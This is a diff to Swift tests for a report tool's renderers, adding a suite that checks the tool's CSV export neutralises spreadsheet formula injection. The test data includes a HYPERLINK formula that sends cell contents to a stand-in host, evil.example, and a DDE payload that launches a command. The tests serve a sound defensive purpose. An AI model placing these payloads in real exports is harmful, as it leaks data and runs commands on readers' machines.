@@ -64,7 +64,7 @@ enum ReportFixture {
         let md = MarkdownRenderer(model: ReportModel(analysis: analysis, summary: ReportFixture.summary())).render()
         #expect(md.contains("pipe \\| in title and newline"))
         #expect(!md.contains("<script>"))
-        #expect(md.hasSuffix("|\n") && !md.hasSuffix("\n\n"))
+        #expect(md.hasSuffix("\n") && !md.hasSuffix("\n\n"))
     }
 
     @Test func bothRenderersShowTheSameSections() throws {
@@ -72,7 +72,8 @@ enum ReportFixture {
         let model = ReportModel(analysis: analysis, summary: ReportFixture.summary())
         let html = HTMLRenderer(model: model).render(), md = MarkdownRenderer(model: model).render()
         for section in model.sections {
-            #expect(html.contains("<h2>\(HTML.escape(section.title))</h2>"), "\(section.title)")
+            let id = section.anchor.map { " id=\"\($0)\"" } ?? ""
+            #expect(html.contains("<h2\(id)>\(HTML.escape(section.title))</h2>"), "\(section.title)")
             #expect(md.contains("## \(MarkdownText.cell(section.title))\n"), "\(section.title)")
         }
         #expect(model.sections.map(\.title).contains("Keyness: japan vs korea (focus)"))
@@ -149,5 +150,41 @@ import GRDB
             #expect(indexes.contains("duplicates_representative_id"))
             #expect(try Int.fetchOne(db, sql: "SELECT count(*) FROM tokens WHERE document_id = 'a'") ?? 0 > 5)
         }
+    }
+}
+
+/// CSV formula injection: spreadsheet-safe CSV by default, exact text everywhere else.
+@Suite struct SpreadsheetSafetyTests {
+    static let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0",
+                          "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
+
+    @Test func cellsThatWouldRunAreNeutralisedAndNumbersAreNot() {
+        for cell in Self.hostile { #expect(CSVTable.neutralized(cell) == "'" + cell) }
+        for cell in ["-0.2500", "+3", "-1e-05", "1.5", "plain", "", "a=b", "-", "-inf"] {
+            #expect(CSVTable.neutralized(cell) == (cell == "-" || cell == "-inf" ? "'" + cell : cell))
+        }
+        var table = CSVTable(header: ["title", "score"])
+        table.append(["=1+1", "-0.5"])
+        #expect(table.text == "title,score\n'=1+1,-0.5\n")
+        #expect(table.render(.raw) == "title,score\n=1+1,-0.5\n")
+    }
+
+    @Test func runTablesAreSafeAndJSONLinesAndSQLiteKeepTheExactText() throws {
+        let title = Self.hostile[1]
+        let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: title)])
+        let safe = FileManager.default.temporaryDirectory.appendingPathComponent("wl-csv-\(UUID().uuidString)")
+        try ReportWriter(folder: safe).write(analysis, summary: ReportFixture.summary())
+        let csv = try String(contentsOf: safe.appendingPathComponent("documents.csv"), encoding: .utf8)
+        #expect(csv.contains(",'=cmd|' /C calc'!A0,"))
+        #expect(!csv.contains(",=cmd"))
+        let jsonl = try String(contentsOf: safe.appendingPathComponent("documents.jsonl"), encoding: .utf8)
+        #expect(jsonl.contains("\"title\":\"=cmd|' /C calc'!A0\""))
+        let db = try DatabaseQueue(path: safe.appendingPathComponent("wavelength.sqlite").path)
+        #expect(try db.read { try String.fetchOne($0, sql: "SELECT title FROM documents") } == title)
+
+        let raw = FileManager.default.temporaryDirectory.appendingPathComponent("wl-csv-\(UUID().uuidString)")
+        try ReportWriter(folder: raw, cells: .raw).write(analysis, summary: ReportFixture.summary())
+        let rawCSV = try String(contentsOf: raw.appendingPathComponent("documents.csv"), encoding: .utf8)
+        #expect(rawCSV.contains(",=cmd|' /C calc'!A0,"))
     }
 }
